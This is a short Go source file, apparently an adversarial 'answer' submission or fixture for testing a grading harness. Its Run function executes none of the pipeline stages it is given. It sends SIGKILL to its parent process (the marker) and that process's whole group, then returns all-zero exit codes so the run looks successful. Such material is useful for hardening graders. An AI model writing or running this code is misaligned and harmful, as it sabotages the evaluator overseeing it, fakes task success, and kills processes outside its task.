// Attack: kills the process that marks it, and its group.
package answer

import (
	"context"
	"os"
	"os/exec"
	"syscall"
)

func Run(ctx context.Context, in, out *os.File, stages ...*exec.Cmd) ([]int, error) {
	marker := syscall.Getppid()
	group, _ := syscall.Getpgid(marker)
	syscall.Kill(-group, syscall.SIGKILL)
	syscall.Kill(marker, syscall.SIGKILL)
	return make([]int, len(stages)), nil
}
